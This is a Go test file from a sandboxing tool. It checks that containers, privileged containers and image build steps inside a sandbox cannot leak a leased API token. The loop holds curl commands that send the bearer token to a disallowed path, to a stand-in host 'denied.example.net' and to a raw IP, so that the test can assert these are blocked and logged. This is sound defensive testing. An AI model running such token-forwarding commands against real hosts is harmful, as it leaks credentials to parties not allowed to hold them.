package attacks

import (
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/bothy-dev/bothy/internal/image/imagetest"
	"github.com/bothy-dev/bothy/test/harness"
	"github.com/bothy-dev/bothy/test/stage"
)

// TestDockerInside checks that containers in a sandbox are judged, logged by name and lent secrets like
// every other program in it: the daemon that pulls, a container on the bridge, one on a network of its
// own, the host's network, and the steps of both builders. No container has the value.
func TestDockerInside(t *testing.T) {
	harness.AsUser(t)
	for _, program := range []string{"dockerd", "docker"} {
		if _, err := exec.LookPath(program); err != nil {
			harness.Missing(t, "docker inside needs %s: %v", program, err)
		}
	}
	stage.On(t, func(t *testing.T, c *harness.Caller, s *stage.Stage) {
		const api, images = "api.example.net:8443", "images.example.net:8443"
		s.Leads("api.example.net", stage.Host4.String())
		s.Leads("images.example.net", stage.Host4.String())
		s.Leads("denied.example.net", stage.Host4.String())
		registry := imagetest.NewRegistry(t)
		registry.Publish("tools", "v1", toolImage(t))
		echo := &service{seen: make(chan struct{})}
		web := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if r.Host == images {
				registry.ServeHTTP(w, r)
				return
			}
			echo.ServeHTTP(w, r)
		})
		roots := c.Write(t, filepath.Join(c.Work, "roots.pem"), stage.Web(t, stage.Listen(t, "8443"), web))
		c.Env = append(c.Env, "SSL_CERT_FILE="+roots)
		c.Must(t, "policy", "allow", api, "--method", "GET", "--path", "/v1/**")
		c.Must(t, "create", "--docker", "--name", "box", "shell", c.Work)
		const value = "ghp_realrealrealrealrealrealrealrealreal"
		if r := c.RunInput(value, "secret", "set", "token", "--service", "github"); r.Code != 0 {
			t.Fatal(r)
		}
		c.Must(t, "secret", "lease", "token", "--sandbox", "box", "--host", api, "--bearer", "--env", "API_TOKEN")
		sh := func(script string) harness.Result { return c.Run("exec", "box", "sh", "-c", script) }

		if r := sh("docker pull -q " + images + "/tools:v1"); r.Code == 0 || len(registry.Asked("tools")) > 0 {
			t.Fatalf("an image that no rule allows: %v", r)
		}
		c.Must(t, "policy", "allow", images)
		if r := sh("docker pull -q " + images + "/tools:v1 && docker tag " + images + "/tools:v1 tools && docker network create own"); r.Code != 0 {
			t.Fatal(r)
		}
		run := func(flags, script string) string {
			return "docker run --rm -e API_TOKEN " + flags + " tools sh -c '" + script + "'"
		}
		build := func(program, flags, script string) string {
			return "printf 'FROM tools\\nARG API_TOKEN\\nRUN " + script + "\\n' > Dockerfile && " + program + " build --no-cache --build-arg API_TOKEN " + flags + " ."
		}
		ways := map[string]func(script string) string{
			"a-container-on-the-bridge":     func(script string) string { return run("", script) },
			"one-on-a-network-of-its-own":   func(script string) string { return run("--network own", script) },
			"one-on-the-sandboxs-network":   func(script string) string { return run("--network host", script) },
			"a-privileged-one":              func(script string) string { return run("--privileged", script) },
			"a-step-of-the-classic-builder": func(script string) string { return build("DOCKER_BUILDKIT=0 docker", "", script) },
		}
		if _, err := os.Stat(oldDocker); err == nil {
			ways["a-step-of-buildkit"] = func(script string) string {
				return build("DOCKER_BUILDKIT=1 "+oldDocker, "--progress=plain", script)
			}
		}
		c.Mkdir(t, filepath.Join(c.Work, "context"))
		for what, way := range ways {
			const ask = `curl -sSk --max-time 60 -H "Authorization: Bearer $API_TOKEN" https://`
			r := sh("cd context && " + way(strings.Join([]string{
				ask + api + "/v2/a-path-that-no-rule-allows",
				ask + what + ".denied.example.net:8443/v1/me",
				ask + stage.Host4.String() + ":8443/v1/an-address",
				strings.Replace(ask, "-sSk", "-sS", 1) + api + "/v1/me",
			}, "; ")))
			if got := echo.saw(); r.Code != 0 || strings.Contains(r.Stdout+r.Stderr, value) ||
				strings.Count(got, "HTTP/2.0 ") != 1 || !strings.Contains(got, "GET /v1/me\n") || !strings.Contains(got, "Bearer "+value) {
				t.Errorf("%s: %v\nthe server got %s", what, r, got)
			}
			if log := c.Must(t, "policy", "log", "box"); !strings.Contains(log, what+".denied.example.net") {
				t.Errorf("%s: the log does not name whom it asked: %s", what, log)
			}
		}
		c.Must(t, "rm", "-f", "box")
	})
}

// oldDocker is the docker of Debian, whose client has BuildKit without another program.
const oldDocker = "/usr/bin/docker"

// toolImage has a shell and curl.
func toolImage(t *testing.T) *imagetest.Image {
	t.Helper()
	var list []imagetest.Entry
	for to, from := range harness.Programs(t, "curl", "true") {
		b, err := os.ReadFile(from)
		if err != nil {
			t.Fatal(err)
		}
		list = append(list, imagetest.Program(strings.TrimPrefix(to, "/"), string(b)))
	}
	list = append(list, imagetest.File("etc/passwd", "root:x:0:0:root:/root:/bin/sh\n"), imagetest.File("etc/group", "root:x:0:\n"))
	return imagetest.New(t, imagetest.Config{Env: []string{"PATH=/bin"}}, imagetest.Layer(t, list...))
}
